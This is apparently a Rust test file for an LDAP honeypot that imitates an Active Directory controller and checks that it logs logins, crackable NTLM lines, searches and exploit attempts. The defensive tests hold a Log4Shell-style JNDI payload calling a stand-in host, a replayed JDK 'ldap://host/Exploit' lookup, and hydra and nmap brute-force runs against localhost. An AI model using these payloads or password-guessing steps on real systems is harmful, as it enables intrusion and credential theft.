//! Clients of LDAP: each login once, with what it takes to crack it.

use std::{fs, net::UdpSocket, process::Command, time::Duration};

use serde_json::Value;

use crate::fixture::{Canary, client, file, free_port, installed, python};

const HOST: &str = "[host]\nname = \"dc01\"\ndomain = \"corp.example.com\"\n";
const BAIT: &str = "honeycreds = [{ username = \"mallory\", password = \"hunter2\" }]\n";
const UNBOUND: &str = "000004DC: LdapErr: DSID-0C090A5C, comment: In order to perform this operation a successful \
    bind must be completed on the connection., data 0, v4563";
const WRONG: &str = "80090308: LdapErr: DSID-0C090447, comment: AcceptSecurityContext error, data 52e, v4563";
const PROOF: &str = "8009030C: LdapErr: DSID-0C090569, comment: AcceptSecurityContext error, data 52e, v4563";

fn canary() -> (Canary, u16, String) {
    let port = free_port();
    let settings = format!("{HOST}[service.ldap]\nport = {port}\ntransport = \"tcp\"\n{BAIT}");
    (Canary::start(&settings), port, format!("ldap://127.0.0.1:{port}"))
}

/// Runs a client of OpenLDAP, which takes any certificate and has an account of NTLM to log in with.
fn openldap(canary: &Canary, program: &str, arguments: &[&str]) -> Option<String> {
    if !installed(program) {
        return None;
    }
    let account = file(canary, "ntlm");
    fs::write(&account, "CORP:mallory:hunter2\n").unwrap();
    let output = Command::new("timeout")
        .args(["60", program])
        .args(arguments)
        .env("LDAPTLS_REQCERT", "never")
        .env("NTLM_USER_FILE", account)
        .output()
        .unwrap();
    // Lines are folded.
    Some(String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).replace("\n ", ""))
}

/// The one login, which gave the bait away.
fn only_login(canary: &Canary, mechanism: &str) -> Value {
    let login = canary.event("the login", |event| event["kind"] == "ldap.login");
    canary.event("the end", |event| event["kind"] == "connection.closed");
    assert_eq!(login["credential"]["username"], "mallory", "{login:#}");
    assert_eq!(login["credential"]["mechanism"], mechanism);
    assert_eq!(canary.so_far(|event| event["class"] == "login").len(), 1);
    login
}

/// The same by NTLM: that the password was found in the answer shows that its line can be cracked.
fn only_ntlm(canary: &Canary) -> Value {
    let login = only_login(canary, "ntlm");
    assert_eq!((&login["honeycred"], &login["severity"]), (&true.into(), &"critical".into()), "{login:#}");
    let line = login["credential"]["response"]["crackable"].as_str().unwrap();
    assert!(line.starts_with("mallory::"), "{line}");
    login
}

#[test]
fn ldapsearch_reads_what_a_controller_tells_everybody_and_nothing_else() {
    let (canary, _, url) = canary();
    let Some(said) = openldap(&canary, "ldapsearch", &["-x", "-LLL", "-H", &url, "-s", "base", "-b", ""])
    else {
        return;
    };
    for line in [
        "domainControllerFunctionality: 7",
        "ldapServiceName: corp.example.com:dc01$@CORP.EXAMPLE.COM",
        "dnsHostName: dc01.corp.example.com",
        "dsServiceName: CN=NTDS Settings,CN=DC01,CN=Servers,CN=Default-First-Site-Name,CN=Sites,\
         CN=Configuration,DC=corp,DC=example,DC=com",
        "namingContexts: DC=ForestDnsZones,DC=corp,DC=example,DC=com",
        "supportedControl: 1.2.840.113556.1.4.2354",
        "supportedSASLMechanisms: GSS-SPNEGO",
    ] {
        assert!(said.contains(line), "{line}: {said}");
    }
    let base = "DC=corp,DC=example,DC=com";
    let filter = "(&(objectClass=user)(|(cn=a*)(!(mail=*x*))(memberOf:1.2.840.113556.1.4.1941:=cn=b)))";
    let said =
        openldap(&canary, "ldapsearch", &["-x", "-H", &url, "-b", base, filter, "mail", "cn"]).unwrap();
    assert!(said.contains(UNBOUND) && said.contains("result: 1 Operations error"), "{said}");
    let search = canary.event("the search", |event| event["fields"]["base"] == base);
    assert_eq!((&search["kind"], &search["severity"]), (&"ldap.search".into(), &"low".into()));
    assert_eq!((&search["fields"]["filter"], &search["fields"]["scope"]), (&filter.into(), &"sub".into()));
    assert_eq!(search["fields"]["attributes"], serde_json::json!(["mail", "cn"]));
    assert!(canary.so_far(|event| event["class"] == "login").is_empty());
}

#[test]
fn a_password_in_clear_is_recorded_however_it_is_carried() {
    for (tls, options) in [(false, &[][..]), (true, &["-ZZ"]), (true, &["ldaps"])] {
        let (canary, port, url) = canary();
        let url = if options == ["ldaps"] { format!("ldaps://127.0.0.1:{port}") } else { url };
        let options = if options == ["ldaps"] { &[] } else { options };
        let login = ["-x", "-H", &url, "-D", "CORP\\mallory", "-w", "hunter2"];
        let Some(said) = openldap(&canary, "ldapwhoami", &[&login[..], options].concat()) else { return };
        assert!(said.contains("Invalid credentials (49)") && said.contains(WRONG), "{said}");
        let login = only_login(&canary, "simple");
        assert_eq!(
            (&login["credential"]["password"], &login["honeycred"]),
            (&"hunter2".into(), &true.into())
        );
        assert_eq!(
            (&login["credential"]["domain"], &login["fields"]["name"]),
            (&"CORP".into(), &"CORP\\mallory".into())
        );
        assert_eq!(login["tls"]["version"].as_str(), tls.then_some("TLSv1.2"), "{login:#}");
    }
}

#[test]
fn whoever_has_no_name_is_let_in_as_nobody() {
    let (canary, _, url) = canary();
    let Some(said) = openldap(&canary, "ldapwhoami", &["-x", "-H", &url]) else { return };
    assert_eq!(said.trim(), "anonymous");
    canary.event("the bind", |event| event["kind"] == "ldap.bind");
    canary.event("the question", |event| event["fields"]["oid"] == "1.3.6.1.4.1.4203.1.11.3");
}

#[test]
fn sasl_leaves_lines_that_can_be_cracked() {
    for mechanism in ["NTLM", "GSS-SPNEGO"] {
        let (canary, _, url) = canary();
        let login = ["-Y", mechanism, "-H", &url, "-U", "mallory", "-w", "hunter2"];
        let login = if mechanism == "NTLM" { &login[..] } else { &login[..6] };
        let Some(said) = openldap(&canary, "ldapwhoami", login) else { return };
        assert!(said.contains(PROOF), "{said}");
        assert_eq!(only_ntlm(&canary)["fields"]["method"], "sasl");
    }
    let (canary, _, url) = canary();
    let login = ["-Y", "DIGEST-MD5", "-H", &url, "-U", "mallory", "-w", "hunter2"];
    let said = openldap(&canary, "ldapwhoami", &login).unwrap();
    assert!(said.contains(PROOF), "{said}");
    let login = only_login(&canary, "digest-md5");
    assert_eq!(login["honeycred"], true, "{login:#}");
    // In hex: digest-uri="ldap/
    let answer = login["credential"]["response"]["response"].as_str().unwrap();
    assert!(answer.contains("6469676573742d7572693d226c6461702f"), "{login:#}");
}

#[test]
fn changes_are_refused_and_recorded() {
    let (canary, _, url) = canary();
    let changes = file(&canary, "changes.ldif");
    let text = "dn: cn=a\nchangetype: modify\nreplace: description\ndescription: ${jndi:ldap://192.0.2.9/a}\n\n\
        dn: cn=b\nchangetype: add\nobjectClass: user\n\ndn: cn=c\nchangetype: delete\n";
    fs::write(&changes, text).unwrap();
    let arguments = ["-c", "-x", "-H", &url, "-f", changes.to_str().unwrap()];
    let Some(said) = openldap(&canary, "ldapmodify", &arguments) else { return };
    assert_eq!(said.matches(UNBOUND).count(), 3, "{said}");
    let requests = canary.events(3, "the requests", |event| event["kind"] == "ldap.request");
    let done: Vec<_> = requests.iter().map(|event| event["fields"]["operation"].as_str().unwrap()).collect();
    assert_eq!(done, ["modify", "add", "delete"]);
    let change = serde_json::json!(["replace: description: ${jndi:ldap://192.0.2.9/a}"]);
    assert_eq!((&requests[0]["fields"]["changes"], &requests[0]["severity"]), (&change, &"medium".into()));
    let lookup = canary.event("the look-up", |event| event["kind"] == "ldap.lookup");
    assert_eq!((&lookup["severity"], &lookup["class"]), (&"high".into(), &"exploit".into()));
}

/// ldap3, by the way that is named.
pub const LDAP3: &str = "
import hashlib, sys
from Cryptodome.Hash import MD4
new = hashlib.new
hashlib.new = lambda name, *rest, **named: MD4.new(*rest) if name.lower() == 'md4' else new(name, *rest, **named)
from ldap3 import Server, Connection, ALL, NTLM, SASL, SIMPLE, DIGEST_MD5
how = {
    'simple': dict(user='mallory', password='hunter2', authentication=SIMPLE),
    'ntlm': dict(user='CORP\\\\mallory', password='hunter2', authentication=NTLM),
    'digest': dict(authentication=SASL, sasl_mechanism=DIGEST_MD5, sasl_credentials=(None, 'mallory', 'hunter2', None)),
    'anonymous': dict(),
}[sys.argv[2]]
server = Server('127.0.0.1', port=int(sys.argv[1]), get_info=ALL)
connection = Connection(server, **how)
print(connection.bind(), connection.result['description'], connection.result['message'])
if not how:
    print(server.info.naming_contexts, server.info.other['dnsHostName'])
    connection.search('', '(objectClass=*)', 'BASE', paged_size=5)
    print(connection.result['controls'])
connection.unbind()
";

#[test]
fn ldap3_logs_in_in_every_way_that_it_has() {
    for (how, mechanism, error) in
        [("simple", "simple", WRONG), ("ntlm", "ntlm", PROOF), ("digest", "digest-md5", PROOF)]
    {
        let (canary, port, _) = canary();
        let Some(said) = python(LDAP3, &[&port.to_string(), how]) else { return };
        assert!(said.contains("False invalidCredentials") && said.contains(error), "{said}");
        match how {
            "ntlm" => assert_eq!(only_ntlm(&canary)["fields"]["method"], "sicily"),
            _ => assert_eq!(only_login(&canary, mechanism)["honeycred"], true),
        }
    }
    let (_canary, port, _) = canary();
    let said = python(LDAP3, &[&port.to_string(), "anonymous"]).unwrap();
    assert!(said.starts_with("True success"), "{said}");
    assert!(said.contains("'CN=Configuration,DC=corp,DC=example,DC=com'"), "{said}");
    assert!(said.contains("dc01.corp.example.com") && said.contains("LDAP Simple Paged Results"), "{said}");
}

/// impacket, with or without TLS.
pub const IMPACKET: &str = "
import socket, sys
resolve = socket.getaddrinfo
socket.getaddrinfo = lambda host, port, *rest: resolve(host, int(sys.argv[1]), *rest)
from impacket.ldap import ldap
try:
    connection = ldap.LDAPConnection(sys.argv[2] + '://dc01', 'dc=corp,dc=example,dc=com', '127.0.0.1')
    connection.login('mallory', 'hunter2', 'CORP')
    print('let in')
except ldap.LDAPSessionError as error:
    print(error)
";

#[test]
fn impacket_leaves_a_line_in_clear_and_inside_tls() {
    for scheme in ["ldap", "ldaps"] {
        let (canary, port, _) = canary();
        let Some(said) = python(IMPACKET, &[&port.to_string(), scheme]) else { return };
        assert!(said.contains(PROOF), "{said}");
        let login = only_ntlm(&canary);
        assert_eq!(login["tls"].is_object(), scheme == "ldaps");
        assert_eq!(login["credential"]["domain"], "CORP");
    }
}

#[test]
fn hydra_tries_its_passwords_in_both_versions() {
    if !installed("hydra") {
        return;
    }
    for (module, version) in [("ldap2", Value::from(2)), ("ldap3", Value::Null)] {
        let (canary, port, _) = canary();
        let target = format!("{module}://127.0.0.1");
        let said =
            client("hydra", &["-I", "-l", "mallory", "-p", "hunter2", "-s", &port.to_string(), &target]);
        assert!(said.contains("0 valid password found"), "{said}");
        let login = only_login(&canary, "simple");
        assert_eq!(
            (&login["credential"]["password"], &login["fields"]["version"]),
            (&"hunter2".into(), &version)
        );
    }
}

#[test]
fn nmap_takes_it_for_active_directory() {
    if !installed("nmap") {
        return;
    }
    let (canary, port, _) = canary();
    let port = port.to_string();
    let said = client("nmap", &["-Pn", "-n", "-sV", "-p", &port, "127.0.0.1"]);
    let known = "Microsoft Windows Active Directory LDAP (Domain: corp.example.com";
    assert!(said.contains(known) && said.contains("Site: Default-First-Site-Name"), "{said}");
    assert!(said.contains("Service Info: Host: DC01; OS: Windows"), "{said}");
    let said =
        client("nmap", &["-Pn", "-n", "-p", &port, "--script", "+ldap-rootdse,+ldap-search", "127.0.0.1"]);
    assert!(said.contains("ldapServiceName: corp.example.com:dc01$@CORP.EXAMPLE.COM"), "{said}");
    canary.event("its search", |event| event["fields"]["base"] == "DC=corp,DC=example,DC=com");
    let words = file(&canary, "words");
    fs::write(&words, "mallory\n").unwrap();
    let passwords = file(&canary, "passwords");
    fs::write(&passwords, "hunter2\n").unwrap();
    let files = format!("userdb={},passdb={}", words.display(), passwords.display());
    client(
        "nmap",
        &["-Pn", "-n", "-p", &port, "--script", "+ldap-brute", "--script-args", &files, "127.0.0.1"],
    );
    let login = canary.event("its login", |event| {
        event["kind"] == "ldap.login" && event["credential"]["password"] == "hunter2"
    });
    assert_eq!(login["honeycred"], true, "{login:#}");
}

#[test]
fn curl_reads_what_a_controller_tells_everybody() {
    if !installed("curl") {
        return;
    }
    let (canary, _, url) = canary();
    let said = client("curl", &["-s", "-m", "20", &format!("{url}/?dnsHostName?base")]);
    assert!(said.contains("dnsHostName: dc01.corp.example.com"), "{said}");
    canary.event("the search", |event| event["kind"] == "ldap.search");
}

/// What a JDK sends that is told to look up `ldap://host/Exploit`.
const JAVA: &str = "
import socket, sys
peer = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
peer.sendall(bytes.fromhex('300c020101600702010304008000'))
assert peer.recv(99).endswith(bytes.fromhex('0a010004000400'))
manage = b'2.16.840.1.113730.3.4.2'
search = b'\\x04\\x07Exploit' + bytes.fromhex('0a01000a0103020100020100010100870b') + b'objectClass' + b'0\\0'
search = b'\\x02\\x01\\x02c' + bytes([len(search)]) + search + b'\\xa0\\x1b0\\x19\\x04\\x17' + manage
peer.sendall(b'0' + bytes([len(search)]) + search)
print(peer.recv(999))
";

#[test]
fn a_program_that_log4j_led_here_is_known_by_its_search() {
    let (canary, port, _) = canary();
    let Some(said) = python(JAVA, &[&port.to_string()]) else { return };
    assert!(said.contains("000004DC"), "{said}");
    let seen = canary.event("the look-up", |event| event["kind"] == "ldap.jndi");
    assert_eq!((&seen["severity"], &seen["class"]), (&"high".into(), &"exploit".into()));
    assert_eq!(
        (&seen["fields"]["path"], &seen["fields"]["client"]),
        (&"Exploit".into(), &"java jndi".into())
    );
}

#[test]
fn windows_finds_its_domain_and_nobody_an_amplifier() {
    let port = free_port();
    let canary = Canary::start(&format!("{HOST}[service.ldap]\nport = {port}\n{BAIT}"));
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    // nmap's question for everything, which would be answered by sixty times as much.
    let all = b"0\x84\0\0\0\x2d\x02\x01\x07c\x84\0\0\0\x24\x04\0\x0a\x01\0\x0a\x01\0\x02\x01\0\x02\x01\x64\x01\x01\0\
        \x87\x0bobjectClass0\x84\0\0\0\0";
    socket.send_to(all, ("127.0.0.1", port)).unwrap();
    let equal = |name: &str, value: &[u8]| {
        let parts = [
            &[4, u8::try_from(name.len()).unwrap()],
            name.as_bytes(),
            &[4, u8::try_from(value.len()).unwrap()],
            value,
        ];
        let parts = parts.concat();
        [&[0xa3, u8::try_from(parts.len()).unwrap()], &parts[..]].concat()
    };
    let filter = [
        equal("DnsDomain", b"corp.example.com"),
        equal("Host", b"WORKSTATION-0117"),
        equal("DnsHostName", b"workstation-0117.corp.example.com"),
        equal("NtVer", b"\x16\0\0\x20"),
    ]
    .concat();
    let long = |tag: u8, content: &[u8]| {
        let length = u32::try_from(content.len()).unwrap().to_be_bytes();
        [&[tag, 0x84], &length[..], content].concat()
    };
    let search = [
        b"\x04\0\x0a\x01\0\x0a\x01\0\x02\x01\0\x02\x01\0\x01\x01\0",
        &long(0xa0, &filter)[..],
        &long(0x30, b"\x04\x08netlogon"),
    ]
    .concat();
    let ping = long(0x30, &[b"\x02\x01\x09", &long(0x63, &search)[..]].concat());
    socket.send_to(&ping, ("127.0.0.1", port)).unwrap();
    let mut answer = [0; 1500];
    let length = socket.recv(&mut answer).unwrap();
    let answer = &answer[..length];
    assert!(length <= 2 * ping.len(), "{length} for {}", ping.len());
    let held = |part: &[u8]| answer.windows(part.len()).any(|window| window == part);
    assert_eq!(answer[8], 9, "the answer to the other question");
    assert!(held(b"\x08netlogon1\x84") && held(b"\x17\0\0\0\xfd\xf3\x01\0"), "{}", answer.escape_ascii());
    assert!(held(
        b"\x04corp\x07example\x03com\0\xc0\x18\x04dc01\xc0\x18\x04CORP\0\x04DC01\0\0\x17Default-First"
    ));
    assert!(held(b"\x05\0\0\0\xff\xff\xff\xff"));
    let seen = canary.events(2, "both searches", |event| event["kind"] == "ldap.search");
    let filter = seen[1]["fields"]["filter"].as_str().unwrap();
    assert!(filter.starts_with("(&(DnsDomain=corp.example.com)(Host=WORKSTATION-0117)"), "{filter}");
}
